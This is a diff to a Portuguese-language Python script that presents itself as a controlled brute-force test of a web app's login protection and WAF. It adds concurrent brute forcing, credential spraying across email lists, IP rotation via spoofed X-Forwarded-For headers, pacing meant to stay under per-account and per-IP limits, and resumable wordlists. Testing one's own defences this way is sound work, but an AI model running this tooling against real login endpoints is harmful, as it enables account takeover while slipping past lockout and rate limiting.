@@ -3,93 +3,43 @@ Script de Ataque Controlado - Brute Force
 Testa a detecção de tentativas massivas de login
 """
 
-import requests
-import time
-from typing import List
+from array import array
+from typing import Callable, Iterable, Iterator, List, Optional, Sized, Tuple
 import argparse
+import heapq
+import os
+
+from harness import AttackRequest, AttackResult, LoadEngine
+from harness import Shard, add_engine_arguments, merge_counters, print_engine_stats, run_job
+from harness.checkpoint import print_checkpoint_hint
+from harness.fleet import FleetConfig, IpFleet
+from harness.payloads import COMMON_EMAILS, COMMON_PASSWORDS
+from harness.wordlist import ResumeCursor, Wordlist
 
 # Configurações
-BASE_URL = "http://localhost:3000"
-LOGIN_ENDPOINT = f"{BASE_URL}/auth/login"
-
-# Wordlists comuns
-COMMON_PASSWORDS = [
-    "123456",
-    "password",
-    "123456789",
-    "12345678",
-    "12345",
-    "1234567",
-    "admin",
-    "123123",
-    "qwerty",
-    "abc123",
-    "password123",
-    "admin123",
-    "letmein",
-    "welcome",
-    "monkey",
-    "1234567890",
-    "football",
-    "dragon",
-    "master",
-    "shadow",
-    "superman",
-    "michael",
-    "jennifer",
-    "trustno1",
-    "batman",
-    "starwars",
-    "1q2w3e4r",
-    "killer",
-    "sunshine",
-    "iloveyou",
-    "princess",
-    "solo",
-    "charlie",
-    "freedom",
-    "whatever",
-    "qazwsx",
-    "ninja",
-    "mustang",
-    "access",
-    "hello",
-    "696969",
-    "!@#$%^&*",
-    "jordan23",
-    "passw0rd",
-    "Password1",
-    "P@ssw0rd",
-    "qwerty123",
-    "zxcvbnm",
-    "asdfgh",
-    "123qwe",
-    "1qaz2wsx",
-]
-
-COMMON_EMAILS = [
-    "admin@example.com",
-    "admin@localhost",
-    "root@localhost",
-    "test@test.com",
-    "user@example.com",
-]
+LOGIN_ENDPOINT = "/auth/login"
+# IP de teste do rate limit (TEST-NET-1): o WAF_MODE=test não poupa
+RATE_LIMIT_IP = "192.0.2.50"
 
 
 def brute_force_attack(
+    engine: LoadEngine,
     target_email: str,
-    passwords: List[str],
-    delay: float = 0.1,
+    passwords: Iterable[str],
     verbose: bool = True,
+    shard: Shard = None,
+    cursor: Optional[ResumeCursor] = None,
 ) -> dict:
     """
     Executa ataque de força bruta contra endpoint de login
     
     Args:
+        engine: Motor de carga (define concorrência e taxa)
         target_email: Email alvo
-        passwords: Lista de senhas para testar
-        delay: Delay entre tentativas (segundos)
+        passwords: Senhas para testar (lista ou Wordlist lida sob demanda)
         verbose: Mostra progresso
+        shard: Fatia das senhas deste worker (padrão: todas)
+        cursor: Acompanha o offset de retomada da wordlist
     
     Returns:
         dict com resultados do ataque
@@ -99,89 +49,405 @@ def brute_force_attack(
         "successful": False,
         "blocked_at": None,
         "valid_credentials": [],
-        "responses": [],
     }
+    results = engine.checkpointed("brute-force", results)
+
+    total = len(passwords) if isinstance(passwords, Sized) else "?"
 
     print(f"\n🔴 Iniciando Brute Force Attack")
     print(f"   Target: {target_email}")
-    print(f"   Passwords: {len(passwords)}")
-    print(f"   Delay: {delay}s\n")
+    print(f"   Passwords: {total if total != '?' else passwords.path}")
+    print(f"   Concorrência: {engine.concurrency} | Taxa: {engine.rate or 'sem limite'} req/s\n")
 
-    for idx, password in enumerate(passwords, 1):
-        try:
-            results["total_attempts"] += 1
+    def handle(result: AttackResult) -> None:
+        idx = result.request.meta["attempt"]
+        password = result.request.meta["password"]
+        if cursor is not None:
+            cursor.done(result.request.meta["offset"])
 
-            payload = {"email": target_email, "password": password}
+        if result.error is not None:
+            print(f"\n❌ Erro na requisição: {result.error}")
+            engine.stop()
+            return
 
-            response = requests.post(LOGIN_ENDPOINT, json=payload, timeout=5)
+        results["total_attempts"] += 1
 
-            results["responses"].append({
-                "attempt": idx,
-                "password": password,
-                "status": response.status_code,
-                "response": response.json() if response.headers.get('content-type') == 'application/json' else response.text[:100],
-            })
+        # Marca sucesso mas continua testando
+        status_icon = "✓" if result.status == 200 else " "
 
-            # Marca sucesso mas continua testando
-            status_icon = "✓" if response.status_code == 200 else " "
-            
-            if verbose:
-                print(f"[{status_icon}] [{idx}/{len(passwords)}] Testing: {password:<20} | Status: {response.status_code}")
+        if verbose:
+            engine.console.log(f"[{status_icon}] [{idx}/{total}] Testing: {password:<20} | Status: {result.status}")
 
-            # Sucesso no login - armazena mas continua
-            if response.status_code == 200:
-                results["successful"] = True
-                results["valid_credentials"].append({"email": target_email, "password": password})
+        # Sucesso no login - armazena mas continua
+        if result.status == 200:
+            results["successful"] = True
+            results["valid_credentials"].append({"email": target_email, "password": password})
 
-            # Sistema bloqueou
-            if response.status_code == 403 or "blocked" in response.text.lower():
-                results["blocked_at"] = idx
+        # Sistema bloqueou (com concorrência, vale a primeira tentativa bloqueada)
+        if result.status == 403:
+            if results["blocked_at"] is None:
                 print(f"\n🚫 BLOQUEADO após {idx} tentativas!")
                 print(f"   Sistema detectou o ataque e bloqueou o IP")
-                break
+                engine.stop()
+            if results["blocked_at"] is None or idx < results["blocked_at"]:
+                results["blocked_at"] = idx
+
+    requests = (
+        AttackRequest(
+            "POST",
+            LOGIN_ENDPOINT,
+            json={"email": target_email, "password": password},
+            meta={"attempt": idx, "password": password, "offset": cursor.take() if cursor else None},
+        )
+        for idx, password in (shard or Shard()).take(enumerate(passwords, 1))
+    )
+    engine.run(requests, handle, phase="brute-force")
+
+    return results
+
+
+def spray_schedule(
+    emails: Callable[[], Iterable[str]],
+    passwords: Iterable[str],
+    ips: List[Optional[str]],
+    rate: Optional[float] = None,
+    account_interval: float = 0.0,
+    ip_interval: float = 0.0,
+) -> Iterator[Tuple[float, str, str, Optional[str]]]:
+    """
+    Agenda (at, email, senha, ip) da matriz emails x senhas
+
+    Cada senha é testada em todas as contas antes da próxima (spraying),
+    então cada conta recebe poucas tentativas espaçadas. Cada tentativa
+    sai pelo IP livre há mais tempo e no primeiro instante que respeita
+    a taxa global, o intervalo mínimo da conta e o do IP.
+
+    Args:
+        emails: Devolve um iterador novo de emails a cada senha (ex.: reabre o arquivo)
+        passwords: Senhas, consumidas uma única vez
+        ips: IPs de origem (None = IP real da máquina)
+        rate: Tentativas/s no total (None = sem limite)
+        account_interval: Segundos mínimos entre tentativas na mesma conta
+        ip_interval: Segundos mínimos entre tentativas do mesmo IP
+    """
+    gap = 1.0 / rate if rate else 0.0
+    # Próximo instante livre de cada conta, pela posição na lista de emails
+    account_free = array("d")
+    # (livre a partir de, ordem de uso, IP): empates saem em rodízio
+    ip_free = [(0.0, position, position) for position in range(len(ips))]
+    uses = len(ips)
+    at = -gap
+
+    for password in passwords:
+        for position, email in enumerate(emails()):
+            if position == len(account_free):
+                account_free.append(0.0)
+
+            free, _, slot = heapq.heappop(ip_free)
+            at = max(at + gap, free, account_free[position])
+            account_free[position] = at + account_interval
+            heapq.heappush(ip_free, (at + ip_interval, uses, slot))
+            uses += 1
+            yield at, email, password, ips[slot]
+
+
+def credential_spray(
+    engine: LoadEngine,
+    emails: Callable[[], Iterable[str]],
+    passwords: Iterable[str],
+    ips: List[Optional[str]],
+    account_interval: float = 0.0,
+    ip_interval: float = 0.0,
+    rate: Optional[float] = None,
+    cursor: Optional[ResumeCursor] = None,
+) -> dict:
+    """
+    Credential spraying: matriz emails x senhas em paralelo
 
-            time.sleep(delay)
+    Com `account_interval` ou `ip_interval` as tentativas seguem a
+    agenda de spray_schedule() (envio no instante planejado, sem esperar
+    respostas); sem eles, a concorrência e a taxa do motor ditam o ritmo.
+    Bloqueios (403) e rate limit (429) não interrompem o ataque: cada IP
+    bloqueado só é contado.
 
-        except requests.exceptions.RequestException as e:
-            print(f"\n❌ Erro na requisição: {e}")
-            break
+    Args:
+        engine: Motor de carga
+        emails: Devolve um iterador novo de emails a cada senha
+        passwords: Senhas (podem vir de uma wordlist lida sob demanda)
+        ips: IPs de origem via X-Forwarded-For (None = IP real)
+        account_interval: Segundos mínimos entre tentativas na mesma conta
+        ip_interval: Segundos mínimos entre tentativas do mesmo IP
+        rate: Tentativas/s deste worker na agenda
+        cursor: Acompanha o offset de retomada da wordlist de senhas
+
+    Returns:
+        dict com resultados do ataque
+    """
+    results = {
+        "total_attempts": 0,
+        "successful": False,
+        "valid_credentials": [],
+        "blocked": 0,
+        "rate_limited": 0,
+        "errors": 0,
+        "ips_blocked": 0,
+        "status": {},
+    }
+    results = engine.checkpointed("credential-spray", results)
+    paced = bool(account_interval or ip_interval)
+    blocked_ips = engine.checkpointed("credential-spray-ips", set())
+
+    print(f"\n🔴 Iniciando Credential Spraying")
+    print(f"   IPs de origem: {sum(ip is not None for ip in ips) or 'IP real'}")
+    print(f"   Intervalo por conta: {account_interval:g}s | por IP: {ip_interval:g}s")
+    print(f"   Concorrência: {engine.concurrency} | Taxa: {rate or engine.rate or 'sem limite'} req/s\n")
+
+    def handle(result: AttackResult) -> None:
+        meta = result.request.meta
+        results["total_attempts"] += 1
+        if cursor is not None:
+            cursor.done(meta["offset"])
+
+        if result.error is not None:
+            results["errors"] += 1
+            return
+
+        status = str(result.status)
+        results["status"][status] = results["status"].get(status, 0) + 1
+        engine.console.log(
+            f"[{meta['attempt']}] {meta['ip'] or '-':15s} {meta['email']:<30} {meta['password']:<20} | Status: {status}"
+        )
+
+        if result.status == 200:
+            results["successful"] = True
+            results["valid_credentials"].append({"email": meta["email"], "password": meta["password"]})
+        elif result.status == 429:
+            results["rate_limited"] += 1
+        elif result.status == 403:
+            results["blocked"] += 1
+            if meta["ip"] not in blocked_ips:
+                blocked_ips.add(meta["ip"])
+                results["ips_blocked"] += 1
+
+    def build_requests():
+        # Sem intervalos o `at` é ignorado e o motor dita o ritmo
+        attempts = spray_schedule(emails, passwords, ips, rate, account_interval, ip_interval)
+        for attempt, (at, email, password, ip) in enumerate(attempts, 1):
+            request = AttackRequest(
+                "POST",
+                LOGIN_ENDPOINT,
+                json={"email": email, "password": password},
+                headers={"X-Forwarded-For": ip} if ip else None,
+                meta={
+                    "family": "brute_force",
+                    "attempt": attempt,
+                    "email": email,
+                    "password": password,
+                    "ip": ip,
+                    "offset": cursor.take() if cursor else None,
+                },
+            )
+            request.at = at
+            request.read_body = False
+            yield request
+
+    engine.run(build_requests(), handle, phase="credential-spray", scheduled=paced)
 
     return results
 
 
-def test_rate_limiting(requests_count: int = 50, burst_mode: bool = True):
+def test_rate_limiting(
+    engine: LoadEngine,
+    endpoint: str = "/",
+    requests_count: int = 500,
+    burst_mode: bool = True,
+    shard: Shard = None,
+):
     """
-    Testa rate limiting enviando múltiplas requisições rapidamente
+    Mede o rate limit por IP + endpoint do WAF
+
+    Envia até `requests_count` requisições de um IP de teste
+    (X-Forwarded-For: RATE_LIMIT_IP, fora dos IPs de desenvolvimento que o
+    WAF_MODE=test poupa) e conta as atendidas até o primeiro 429: com a
+    janela limpa, esse total é o RATE_LIMIT_MAX_REQUESTS da API. O
+    endpoint padrão é a home porque no login as falhas somam score de
+    brute force e o IP é bloqueado (403) antes de chegar ao limite.
     """
     print(f"\n🔴 Testando Rate Limiting")
-    print(f"   Requisições: {requests_count}")
+    print(f"   Endpoint: {endpoint} | IP: {RATE_LIMIT_IP}")
+    print(f"   Requisições: até {requests_count}")
     print(f"   Modo: {'BURST' if burst_mode else 'NORMAL'}\n")
 
-    blocked_at = None
+    results = engine.checkpointed("rate-limit", {
+        "total_sent": 0,
+        "accepted": 0,
+        "limited": 0,
+        "blocked": 0,
+        "blocked_at": None,
+        "retry_after": [],
+    })
 
-    for i in range(1, requests_count + 1):
-        try:
-            response = requests.post(
-                LOGIN_ENDPOINT,
+    def handle(result: AttackResult) -> None:
+        i = result.request.meta["index"]
+
+        if result.error is not None:
+            print(f"Erro: {result.error}")
+            engine.stop()
+            return
+
+        results["total_sent"] += 1
+        engine.console.log(f"[{i}/{requests_count}] Status: {result.status}")
+
+        if result.status == 429 or result.status == 403:
+            if result.status == 429:
+                results["limited"] += 1
+                if not results["retry_after"]:
+                    try:
+                        results["retry_after"].append(result.json()["retryAfter"])
+                    except (ValueError, KeyError, TypeError):
+                        pass
+            else:
+                results["blocked"] += 1
+            if results["blocked_at"] is None:
+                reason = "Rate limit atingido" if result.status == 429 else "IP bloqueado (403)"
+                print(f"\n🚫 {reason} na requisição {i}")
+                engine.stop()
+            if results["blocked_at"] is None or i < results["blocked_at"]:
+                results["blocked_at"] = i
+        else:
+            results["accepted"] += 1
+
+    def request(i: int) -> AttackRequest:
+        headers = {"X-Forwarded-For": RATE_LIMIT_IP}
+        if endpoint == LOGIN_ENDPOINT:
+            return AttackRequest(
+                "POST",
+                endpoint,
                 json={"email": "test@test.com", "password": f"test{i}"},
-                timeout=5,
+                headers=headers,
+                meta={"index": i},
+                read_body=True,
             )
+        return AttackRequest("GET", endpoint, headers=headers, meta={"index": i}, read_body=True)
+
+    requests = (request(i) for i in (shard or Shard()).take(range(1, requests_count + 1)))
+    engine.run(requests, handle, rate=None if burst_mode else 10, phase="rate-limit")
+
+    return results
+
+
+def print_rate_limit(results: dict) -> None:
+    """
+    Resume o limite medido por test_rate_limiting()
+
+    Com --workers, as atendidas de todos os workers somam: o contador da
+    API é por IP + endpoint, compartilhado entre eles.
+    """
+    print(f"\n{'='*60}")
+    print("RELATÓRIO DE RATE LIMITING")
+    print(f"{'='*60}")
+    print(f"Enviadas:            {results['total_sent']}")
+    print(f"Atendidas:           {results['accepted']}")
+    print(f"Rate limit (429):    {results['limited']}")
+    print(f"Bloqueadas (403):    {results['blocked']}")
 
-            print(f"[{i}/{requests_count}] Status: {response.status_code}")
+    if results["limited"]:
+        retry = f" | Retry-After: {max(results['retry_after'])}s" if results["retry_after"] else ""
+        print(f"⏱️  Limite medido: {results['accepted']} requisições por janela{retry}")
+        print("   (requisições anteriores do mesmo IP na janela reduzem o valor medido)")
+    elif results["blocked"]:
+        print("🚫 IP bloqueado antes do rate limit: use outro endpoint ou limpe a blocklist")
+    else:
+        print(
+            f"✅ Nenhum 429 em {results['total_sent']} requisições: limite maior que isso "
+            "ou desligado (RATE_LIMIT_MAX_REQUESTS=0)"
+        )
+    print(f"{'='*60}")
+
+
+def run_attack(engine: LoadEngine, args: argparse.Namespace, shard: Shard, results: dict):
+    """
+    Executa o modo escolhido sobre a fatia de tentativas deste worker
+
+    Com --passwords, o offset de onde retomar a wordlist fica em
+    `results["resume_offset"]` (None quando ela foi até o fim), mesmo
+    se o ataque for interrompido. Com --checkpoint a retomada é feita
+    pelo checkpoint e o offset não é calculado.
+    """
+    if args.test_rate_limit:
+        results.update(test_rate_limiting(
+            engine,
+            endpoint=args.rate_limit_endpoint,
+            requests_count=args.rate_limit_requests,
+            shard=shard,
+        ))
+        return
+
+    passwords = COMMON_PASSWORDS
+    cursor = None
+    if args.passwords:
+        passwords = Wordlist(args.passwords, start=args.passwords_offset, dedup=args.dedup)
+        if not args.checkpoint:
+            cursor = ResumeCursor(passwords)
+
+    try:
+        if args.spray:
+            results.update(spray_attack(engine, args, shard, passwords, cursor))
+        else:
+            results.update(brute_force_attack(engine, args.email, passwords, shard=shard, cursor=cursor))
+    finally:
+        if cursor is not None:
+            results["resume_offset"] = None if cursor.finished else cursor.offset
+
+
+def spray_attack(
+    engine: LoadEngine,
+    args: argparse.Namespace,
+    shard: Shard,
+    passwords: Iterable[str],
+    cursor: Optional[ResumeCursor] = None,
+) -> dict:
+    """
+    Monta o spraying deste worker
+
+    Cada worker fica com uma fatia fixa das contas e dos IPs de origem,
+    então os intervalos por conta e por IP valem sem coordenação.
+    """
+    accounts = Wordlist(args.emails, dedup=args.dedup) if args.emails else COMMON_EMAILS
+
+    def emails():
+        return shard.take(accounts)
+
+    if args.source_ips:
+        fleet = IpFleet(FleetConfig(size=args.source_ips, seed=args.seed))
+        ips = [fleet.address(index) for index in shard.take(range(args.source_ips))]
+        ip_interval = args.ip_interval
+    else:
+        # Todos os workers saem pelo mesmo IP real: o intervalo é dividido entre eles
+        ips = [None]
+        ip_interval = args.ip_interval * shard.count
 
-            if response.status_code == 429 or response.status_code == 403:
-                blocked_at = i
-                print(f"\n🚫 Rate limit atingido na requisição {i}")
-                break
+    # O motor do worker já recebeu só a sua parte da --rate (ou da --delay)
+    return credential_spray(engine, emails, passwords, ips, args.account_interval, ip_interval, engine.rate, cursor)
+
+
+def merge_results(target: dict, other: dict) -> None:
+    """
+    Combina resultados de workers: vale o bloqueio mais cedo entre eles
 
-            if not burst_mode:
-                time.sleep(0.1)
+    Todos os workers leem a mesma wordlist, então retomar do menor
+    offset pendente não pula nenhuma senha.
+    """
+    blocked = [b for b in (target.get("blocked_at"), other.get("blocked_at")) if b]
+    offsets = [o for o in (target.get("resume_offset"), other.get("resume_offset")) if o is not None]
+    merge_counters(target, {k: v for k, v in other.items() if k not in ("blocked_at", "resume_offset")})
+    target["blocked_at"] = min(blocked) if blocked else None
+    target["resume_offset"] = min(offsets) if offsets else None
 
-        except Exception as e:
-            print(f"Erro: {e}")
-            break
 
-    return {"total_sent": i, "blocked_at": blocked_at}
+def print_resume_hint(results: dict) -> None:
+    if results.get("resume_offset") is not None:
+        print(f"⏯️  Para continuar a wordlist de onde parou: --passwords-offset {results['resume_offset']}")
 
 
 if __name__ == "__main__":
@@ -202,14 +468,121 @@ if __name__ == "__main__":
         action="store_true",
         help="Test rate limiting instead of brute force",
     )
+    parser.add_argument(
+        "--rate-limit-endpoint",
+        default="/",
+        help="Endpoint medido por --test-rate-limit (padrão: / - no login o brute force bloqueia antes)",
+    )
+    parser.add_argument(
+        "--rate-limit-requests",
+        type=int,
+        default=500,
+        help="Máximo de requisições de --test-rate-limit (padrão: 500)",
+    )
+    parser.add_argument(
+        "--passwords",
+        metavar="ARQUIVO",
+        help="Wordlist de senhas, uma por linha, lida sob demanda (.gz aceito; padrão: COMMON_PASSWORDS)",
+    )
+    parser.add_argument(
+        "--passwords-offset",
+        type=int,
+        default=0,
+        metavar="BYTES",
+        help="Retoma a wordlist de senhas a partir deste offset (impresso ao interromper)",
+    )
+    parser.add_argument(
+        "--dedup",
+        action="store_true",
+        help="Descarta senhas e emails repetidos das wordlists (filtro de Bloom, ~0.1%% de falsos positivos)",
+    )
+
+    spray = parser.add_argument_group("credential spraying (--spray)")
+    spray.add_argument(
+        "--spray",
+        action="store_true",
+        help="Testa cada senha em todas as contas (matriz emails x senhas) em vez de uma conta só",
+    )
+    spray.add_argument(
+        "--emails",
+        metavar="ARQUIVO",
+        help="Wordlist de emails, relida a cada senha sem carregar na memória (padrão: COMMON_EMAILS)",
+    )
+    spray.add_argument(
+        "--source-ips",
+        type=int,
+        default=0,
+        help="IPs de origem simulados via X-Forwarded-For (padrão: 0 - IP real)",
+    )
+    spray.add_argument(
+        "--account-interval",
+        type=float,
+        default=0.0,
+        help="Segundos mínimos entre tentativas na mesma conta (padrão: 0)",
+    )
+    spray.add_argument(
+        "--ip-interval",
+        type=float,
+        default=0.0,
+        help="Segundos mínimos entre tentativas do mesmo IP (padrão: 0)",
+    )
+    spray.add_argument(
+        "--seed",
+        type=int,
+        default=0,
+        help="Semente dos IPs de origem (padrão: 0)",
+    )
+    add_engine_arguments(parser)
 
     args = parser.parse_args()
 
+    for path in (args.passwords, args.emails):
+        if path and not os.path.isfile(path):
+            parser.error(f"Wordlist não encontrada: {path}")
+    if args.spray and args.source_ips and args.source_ips < args.workers:
+        parser.error("--source-ips precisa ser pelo menos igual a --workers")
+    if min(args.source_ips, args.account_interval, args.ip_interval, args.passwords_offset) < 0:
+        parser.error("--source-ips, --passwords-offset e os intervalos não podem ser negativos")
+    if args.passwords_offset and not args.passwords:
+        parser.error("--passwords-offset exige --passwords")
+
     if args.test_rate_limit:
-        test_rate_limiting()
+        # Rate limiting é testado em burst: --delay não se aplica
+        args.delay = 0
+
+    results = {}
+    try:
+        run = run_job(args, run_attack, results, merge=merge_results)
+    except KeyboardInterrupt:
+        print("\n\n⚠️  Ataque interrompido pelo usuário")
+        print_resume_hint(results)
+        print_checkpoint_hint(args)
+        raise SystemExit(130)
+
+    if args.test_rate_limit:
+        print_rate_limit(results)
+        print_engine_stats(run.totals)
+        run.report.print("rate-limit")
+    elif args.spray:
+        print(f"\n{'='*60}")
+        print("RELATÓRIO DE CREDENTIAL SPRAYING")
+        print(f"{'='*60}")
+        print(f"Total de tentativas: {results['total_attempts']}")
+        print(f"Bloqueadas (403):    {results['blocked']} | IPs bloqueados: {results['ips_blocked']}")
+        print(f"Rate limit (429):    {results['rate_limited']}")
+        print(f"Erros:               {results['errors']}")
+        statuses = ", ".join(f"{code}: {n}" for code, n in sorted(results['status'].items()))
+        print(f"Status:              {statuses or '-'}")
+        print(f"Sucesso: {'✅ SIM' if results['successful'] else '❌ NÃO'}")
+
+        for cred in results['valid_credentials']:
+            print(f"   📧 {cred['email']} 🔑 {cred['password']}")
+
+        print_engine_stats(run.totals)
+        run.report.print("credential-spray")
+        print_resume_hint(results)
+        print(f"{'='*60}\n")
     else:
-        results = brute_force_attack(args.email, COMMON_PASSWORDS, args.delay)
-        
         print(f"\n{'='*60}")
         print("RELATÓRIO DE ATAQUE")
         print(f"{'='*60}")
@@ -224,4 +597,7 @@ if __name__ == "__main__":
         
         if results['blocked_at']:
             print(f"\nBloqueado na tentativa: {results['blocked_at']}")
+        print_engine_stats(run.totals)
+        run.report.print("brute-force")
+        print_resume_hint(results)
         print(f"{'='*60}\n")